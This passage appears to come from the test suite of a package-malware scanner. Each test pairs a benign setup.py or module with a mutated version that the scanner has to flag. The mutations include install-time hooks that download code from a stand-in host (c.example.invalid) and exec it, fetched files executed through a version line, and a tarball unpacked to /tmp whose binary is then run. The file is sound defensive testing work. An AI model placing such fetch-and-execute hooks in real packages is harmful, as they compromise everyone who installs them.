        "    open(path, 'wb').write(page)\n"
        "    code = marshal.load(open(path, 'rb'))\n"
        "    return code.co_names\n"
    )
    honest = screen_bytes(pack({INIT: source}, WHEEL), filename=WHEEL)
    assert honest.verdict is Verdict.CLEAN, honest.findings
    executed = source.replace("return code.co_names", "exec(code)") + "names('a')\n"
    assert screen_bytes(pack({INIT: executed}, WHEEL), filename=WHEEL).verdict is Verdict.MALICIOUS


def test_what_is_written_to_one_open_file_is_not_read_from_another() -> None:
    """A build that fetches its fonts, and executes the line of its own source that tells its version."""
    source = (
        "import os\n"
        "from urllib.request import urlopen\n"
        "from setuptools import setup\n"
        "HERE = os.path.dirname(__file__)\n"
        "def fonts():\n"
        "    with open(os.path.join(HERE, 'pkg', 'fonts', 'a.pfb'), 'wb') as file:\n"
        "        file.write(urlopen('https://c.example.invalid/a.pfb').read())\n"
        "def version():\n"
        "    for line in open(os.path.join(HERE, 'pkg', '__init__.py')).readlines():\n"
        "        if line.startswith('Version'):\n"
        "            told = {}\n"
        "            exec(line.strip(), told)\n"
        "            return told['Version']\n"
        "fonts()\n"
        "setup(name='pkg', version=version())\n"
    )
    honest = screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST)
    assert honest.verdict is Verdict.CLEAN, honest.findings
    fetched = source.replace("'fonts', 'a.pfb'", "'__init__.py'")
    assert screen_bytes(pack({"setup.py": fetched}, SDIST), filename=SDIST).verdict is Verdict.MALICIOUS


def test_what_is_unpacked_beside_the_package_is_not_all_that_lies_there() -> None:
    """A build that fetches a library into its own tree, and then starts compilers in that tree."""
    source = (
        "import os, subprocess, tarfile\n"
        "from urllib.request import urlretrieve\n"
        "from setuptools import setup\n"
        "HERE = os.path.dirname(__file__)\n"
        "urlretrieve('https://c.example.invalid/lib-1.0.tar.gz', 'lib.tar.gz')\n"
        "tarfile.open('lib.tar.gz').extractall(path=HERE)\n"
        "subprocess.run(['headers', 'common.h'], cwd=HERE + '/native', check=True)\n"
        "setup(name='pkg')\n"
    )
    honest = screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST)
    assert honest.verdict is Verdict.CLEAN, honest.findings
    elsewhere = source.replace("path=HERE", "path='/tmp/l'").replace("['headers', 'common.h']", "['/tmp/l/start']")
    assert screen_bytes(pack({"setup.py": elsewhere}, SDIST), filename=SDIST).verdict is Verdict.MALICIOUS


def test_a_command_of_maintainers_is_given_by_no_installation() -> None:
    """What is fetched when a source distribution is made, and when it is installed."""
    source = (
        "from urllib.request import urlopen\n"
        "from setuptools import setup\n"
        "from setuptools.command.sdist import sdist\n"
        "class Plain(sdist):\n"
        "    pass\n"
        "class Fetching(Plain):\n"
        "    def run(self):\n"
        "        exec(urlopen('https://c.example.invalid/a').read())\n"
        "setup(name='pkg', cmdclass={'sdist': Fetching})\n"
    )
    made = screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST)
    assert made.verdict is not Verdict.MALICIOUS, made.findings
    installed = source.replace("{'sdist'", "{'install'")
    assert screen_bytes(pack({"setup.py": installed}, SDIST), filename=SDIST).verdict is Verdict.MALICIOUS
